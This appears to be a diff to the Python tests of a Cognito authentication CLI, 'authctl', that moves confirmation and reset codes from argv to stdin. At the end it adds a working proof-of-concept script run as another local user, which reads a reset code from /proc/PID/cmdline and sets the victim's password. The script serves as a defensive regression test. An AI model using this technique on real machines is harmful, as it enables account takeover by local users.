@@ -68,7 +68,7 @@ def test_signup_to_whoami_in_four_commands(any_cli, verifying_pool, fake, cognit
     assert user_status(cognito, verifying_pool, "carol") == "UNCONFIRMED"
 
     code = sent_code(fake, verifying_pool, "carol", "SIGN_UP")
-    r = cli.run("confirm-signup", "--username", "carol", "--code", code)
+    r = cli.run("confirm-signup", "--username", "carol", "--code-stdin", input=code + "\n")
     assert r.code == 0, r
     assert "Account carol confirmed; sign in with: authctl signin --username carol" in r.err
     assert user_status(cognito, verifying_pool, "carol") == "CONFIRMED"
@@ -101,13 +101,13 @@ def test_signin_before_confirmation_points_to_confirm_and_resend(cli, verifying_
 def test_wrong_then_right_confirmation_code(cli, verifying_pool, fake, cognito):
     assert sign_up(cli).code == 0
     code = sent_code(fake, verifying_pool, "carol", "SIGN_UP")
-    r = cli.run("confirm-signup", "--username", "carol", "--code", wrong(code))
+    r = cli.run("confirm-signup", "--username", "carol", "--code-stdin", input=wrong(code) + "\n")
     assert r.code == 77, r
     assert "The code did not match; try again" in r.err
     assert user_status(cognito, verifying_pool, "carol") == "UNCONFIRMED"
-    assert cli.run("confirm-signup", "--username", "carol", "--code", code).code == 0
+    assert cli.run("confirm-signup", "--username", "carol", "--code-stdin", input=code + "\n").code == 0
     assert user_status(cognito, verifying_pool, "carol") == "CONFIRMED"
-    r = cli.run("confirm-signup", "--username", "carol", "--code", code)
+    r = cli.run("confirm-signup", "--username", "carol", "--code-stdin", input=code + "\n")
     assert r.code == 77 and "Current status is CONFIRMED" in r.err, r
 
 
@@ -120,9 +120,9 @@ def test_resend_code_voids_the_old_one(cli, verifying_pool, fake, cognito):
                                                               "attributeName": "email"}}
     new = sent_code(fake, verifying_pool, "carol", "SIGN_UP")
     if new != old:  # one in a million they are the same
-        r = cli.run("confirm-signup", "--username", "carol", "--code", old)
+        r = cli.run("confirm-signup", "--username", "carol", "--code-stdin", input=old + "\n")
         assert r.code == 77, r
-    assert cli.run("confirm-signup", "--username", "carol", "--code", new).code == 0
+    assert cli.run("confirm-signup", "--username", "carol", "--code-stdin", input=new + "\n").code == 0
     r = cli.run("resend-code", "--username", "carol")
     assert r.code == 65 or r.code == 78, r  # already confirmed: the service refuses the request
 
@@ -132,7 +132,7 @@ def test_expired_code_says_how_to_get_a_new_one(cli, verifying_pool, fake):
     assert sign_up(cli).code == 0
     code = sent_code(fake, verifying_pool, "carol", "SIGN_UP")
     time.sleep(1)
-    r = cli.run("confirm-signup", "--username", "carol", "--code", code)
+    r = cli.run("confirm-signup", "--username", "carol", "--code-stdin", input=code + "\n")
     assert r.code == 77, r
     assert "expired" in r.err and "authctl resend-code --username carol" in r.err
 
@@ -164,10 +164,10 @@ def test_forgot_password_in_two_runs_then_sign_in(any_cli, fake, cognito):
     r = cli.run("forgot-password", "--username", "alice")
     assert r.code == 0, r
     assert "A code to reset the password was sent to a***@e*** (email)." in r.err
-    assert "--code CODE --password-stdin" in r.err
+    assert "--code-stdin --password-stdin" in r.err
     code = sent_code(fake, cli.pool, "alice", "FORGOT_PASSWORD")
     mark = fake.mark()
-    r = cli.run("forgot-password", "--username", "alice", "--code", code, "--password-stdin", input=NEW_PASSWORD + "\n")
+    r = cli.run("forgot-password", "--username", "alice", "--code-stdin", "--password-stdin", input=code + "\n" + NEW_PASSWORD + "\n")
     assert r.code == 0, r
     assert "Password reset; sign in with: authctl signin --username alice" in r.err
     assert [c["operation"] for c in fake.calls(mark, client_ids=[cli.client_id])] == ["ConfirmForgotPassword"]
@@ -179,7 +179,7 @@ def test_forgot_password_in_two_runs_then_sign_in(any_cli, fake, cognito):
 def test_forgot_password_wrong_and_expired_codes(cli, fake):
     assert cli.run("forgot-password", "--username", "alice").code == 0
     code = sent_code(fake, cli.pool, "alice", "FORGOT_PASSWORD")
-    r = cli.run("forgot-password", "--username", "alice", "--code", wrong(code), "--password-stdin", input=NEW_PASSWORD + "\n")
+    r = cli.run("forgot-password", "--username", "alice", "--code-stdin", "--password-stdin", input=wrong(code) + "\n" + NEW_PASSWORD + "\n")
     assert r.code == 77 and "The code did not match" in r.err, r
     assert cli.signin("alice", ALICE_PASSWORD).code == 0  # nothing changed
 
@@ -187,19 +187,19 @@ def test_forgot_password_wrong_and_expired_codes(cli, fake):
     assert cli.run("forgot-password", "--username", "alice").code == 0
     code = sent_code(fake, cli.pool, "alice", "FORGOT_PASSWORD")
     time.sleep(1)
-    r = cli.run("forgot-password", "--username", "alice", "--code", code, "--password-stdin", input=NEW_PASSWORD + "\n")
+    r = cli.run("forgot-password", "--username", "alice", "--code-stdin", "--password-stdin", input=code + "\n" + NEW_PASSWORD + "\n")
     assert r.code == 77, r
     assert "expired" in r.err and "authctl forgot-password --username alice" in r.err
 
 
 def test_forgot_password_checks_the_new_password_before_sending(cli, fake):
     mark = fake.mark()
-    r = cli.run("forgot-password", "--username", "alice", "--code", "123456", "--password-stdin", input=" spaced \n")
+    r = cli.run("forgot-password", "--username", "alice", "--code-stdin", "--password-stdin", input="123456\n spaced \n")
     assert r.code == 65 and "white space" in r.err, r
-    r = cli.run("forgot-password", "--username", "alice", "--code", "123456", "--password-stdin", input="\n")
+    r = cli.run("forgot-password", "--username", "alice", "--code-stdin", "--password-stdin", input="123456\n\n")
     assert r.code == 64, r
     r = cli.run("forgot-password", "--username", "alice", "--password-stdin", input=NEW_PASSWORD + "\n")
-    assert r.code == 64 and "--code" in r.err, r
+    assert r.code == 64 and "--code-stdin" in r.err, r
     assert fake.calls(mark, client_ids=[cli.client_id]) == []
 
 
@@ -217,8 +217,8 @@ def test_password_reset_required_at_signin_then_reset(cli, fake, cognito):
     assert r.code == 77 and "authctl forgot-password --username alice" in r.err, r
     assert cli.run("forgot-password", "--username", "alice").code == 0
     code = sent_code(fake, cli.pool, "alice", "FORGOT_PASSWORD")
-    assert cli.run("forgot-password", "--username", "alice", "--code", code, "--password-stdin",
-                   input=NEW_PASSWORD + "\n").code == 0
+    assert cli.run("forgot-password", "--username", "alice", "--code-stdin", "--password-stdin",
+                   input=code + "\n" + NEW_PASSWORD + "\n").code == 0
     assert cli.signin("alice", NEW_PASSWORD).code == 0
 
 
@@ -227,7 +227,7 @@ def test_forgot_password_on_a_terminal(cli, fake, terminals):
     t.expect("A code to reset the password was sent to a***@e*** (email).")
     t.expect("Code from the email: ")
     code = sent_code(fake, cli.pool, "alice", "FORGOT_PASSWORD")
-    t.type(wrong(code))
+    t.type_secret(wrong(code))
     t.expect("New password: ")
     t.type_secret(NEW_PASSWORD)
     t.expect("Repeat new password: ")
@@ -239,10 +239,11 @@ def test_forgot_password_on_a_terminal(cli, fake, terminals):
     t.type_secret(NEW_PASSWORD)
     t.expect("The code did not match; try again.")
     t.expect("Code from the email: ")
-    t.type(code)
+    t.type_secret(code)
     t.expect("Password reset; sign in with: authctl signin --username alice")
     assert t.finish() == 0
     assert NEW_PASSWORD not in t.output
+    assert code not in t.output  # the code is asked without echo, like the password
     assert cli.signin("alice", NEW_PASSWORD).code == 0
 
 
@@ -257,8 +258,94 @@ def test_signup_and_confirm_on_a_terminal(cli, verifying_pool, fake, terminals):
     t = terminals(cli, "confirm-signup", "--username", "carol")
     t.expect("Code from the email: ")
     code = sent_code(fake, verifying_pool, "carol", "SIGN_UP")
-    t.type(wrong(code))
+    t.type_secret(wrong(code))
     t.expect("The code did not match; try again.")
-    t.type(code)
+    t.type_secret(code)
     t.expect("Account carol confirmed")
     assert t.finish() == 0
+    assert code not in t.output
+
+
+# Issue 22, finding 2: a reset code on argv let another local user (nobody, through setpriv) read it
+# in /proc/PID/cmdline and set the password first, with the username and the public client id.
+CODE_THIEF = r"""
+import json, os, sys, time, urllib.request, urllib.error
+pid, endpoint, client_id, username, password, seconds = sys.argv[1:7]
+code, deadline = None, time.time() + float(seconds)
+while code is None and time.time() < deadline:
+    try:
+        argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
+    except OSError:
+        argv = []
+    for i, arg in enumerate(argv[:-1]):
+        if arg == b"--code":
+            code = argv[i + 1].decode()
+    time.sleep(0.02)
+if code is None:
+    print("no code seen"); sys.exit(0)
+body = json.dumps({"ClientId": client_id, "Username": username, "ConfirmationCode": code, "Password": password}).encode()
+req = urllib.request.Request(endpoint, data=body, headers={
+    "Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": "AWSCognitoIdentityProviderService.ConfirmForgotPassword"})
+try:
+    urllib.request.urlopen(req, timeout=10)
+    print("password set")
+except urllib.error.HTTPError as e:
+    print("refused", e.code)
+"""
+THIEF_PASSWORD = "Thief-Passw0rd!"
+
+
+def steal_the_code_while(cli, args: list[str], stdin_lines: list[str]):
+    """Runs `authctl args` with standard input held open for 3 s (as a slow pipe would), while nobody
+    watches its argv; returns (authctl's result, what the thief printed)."""
+    import shutil
+    import subprocess
+    import sys
+    if shutil.which("setpriv") is None:
+        pytest.skip("setpriv is needed to run a second local user")
+    from harness import authctl_bin
+    env = cli.env()
+    victim = subprocess.Popen([str(authctl_bin()), *args], env=env, cwd=env.get("HOME", "/"), stdin=subprocess.PIPE,
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    thief = subprocess.Popen(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", CODE_THIEF,
+                              str(victim.pid), cli.endpoint, cli.client_id, "alice", THIEF_PASSWORD, "3"],
+                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd="/")
+    said = thief.communicate(timeout=60)[0].strip()
+    try:
+        out, err = victim.communicate("".join(line + "\n" for line in stdin_lines), timeout=60)
+    except BrokenPipeError:
+        out, err = victim.communicate(timeout=60)
+    return victim.returncode, err, said
+
+
+def test_another_user_never_sees_a_reset_code(cli, fake):
+    assert cli.run("forgot-password", "--username", "alice").code == 0
+    code = sent_code(fake, cli.pool, "alice", "FORGOT_PASSWORD")
+    status, err, thief = steal_the_code_while(cli, ["forgot-password", "--username", "alice", "--code-stdin", "--password-stdin"],
+                                              [code, NEW_PASSWORD])
+    assert thief == "no code seen", thief
+    assert status == 0, err
+    assert cli.signin("alice", THIEF_PASSWORD).code == 77
+    assert cli.signin("alice", NEW_PASSWORD).code == 0
+
+
+def test_code_on_the_command_line_is_refused(cli, fake):
+    """What a script written for the old `--code CODE` gets: exit 64 before anything is sent,
+    saying where the code goes now. The old binary waited for the password on stdin with the code
+    on its argv, and nobody set the password first (this test's thief, every run). Now authctl
+    stops at once; a code typed on a command line was still visible for those milliseconds, which
+    is why no documented use puts it there."""
+    assert cli.run("forgot-password", "--username", "alice").code == 0
+    code = sent_code(fake, cli.pool, "alice", "FORGOT_PASSWORD")
+    status, err, thief = steal_the_code_while(cli, ["forgot-password", "--username", "alice", "--code", code, "--password-stdin"],
+                                              [NEW_PASSWORD])
+    assert thief != "password set", (thief, err)
+    assert status == 64, err
+    assert cli.signin("alice", THIEF_PASSWORD).code == 77
+    mark = fake.mark()
+    for args in (["forgot-password", "--username", "alice", "--code", "123456", "--password-stdin"],
+                 ["confirm-signup", "--username", "carol", "--code", "123456"]):
+        r = cli.run(*args, input=NEW_PASSWORD + "\n")
+        assert r.code == 64, r
+        assert "--code-stdin" in r.err and "prompt" in r.err and "local user" in r.err, r
+    assert fake.calls(mark, client_ids=[cli.client_id]) == []
